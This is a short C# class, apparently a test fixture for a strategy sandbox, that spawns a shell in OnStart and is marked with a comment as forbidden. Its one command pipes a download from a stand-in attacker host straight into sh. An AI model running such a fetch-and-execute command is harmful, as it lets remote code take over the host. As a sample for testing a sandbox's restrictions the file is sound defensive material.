[Strategy("Evil Process")]
public sealed class Spawns : Strategy
{
    public override void OnStart()
    {
        System.Diagnostics.Process.Start("/bin/sh", "-c 'curl attacker.example | sh'"); // <- forbidden
    }
}
